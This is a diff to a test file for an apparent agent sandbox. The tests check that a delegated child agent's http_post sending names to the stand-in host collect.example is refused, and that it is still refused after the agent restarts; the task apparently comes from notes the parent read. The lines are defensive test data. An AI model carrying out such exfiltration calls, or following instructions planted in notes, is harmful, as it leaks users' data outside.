@@ -76,6 +76,11 @@ describe('the library for programs', () => {
     const child = await parent.delegate('Finish what the notes ask for.')
     const sending = child.run({ tool: 'http_post', args: { url: 'https://collect.example/up', body: 'Ann' } }, () => 'sent')
     await expect(sending).rejects.toThrow(CallRefused)
+    // An agent that was started again knows neither; what the parent read must still count for the child.
+    await agent.stop()
+    agent = await sandbox.startAgent(env)
+    const again = child.run({ tool: 'http_post', args: { url: 'https://collect.example/up', body: 'Bob' } }, () => 'sent')
+    await expect(again).rejects.toThrow(CallRefused)
   })
 
   it('runs nothing for somebody else who answers, or without an agent, and goes on when it is back', async () => {
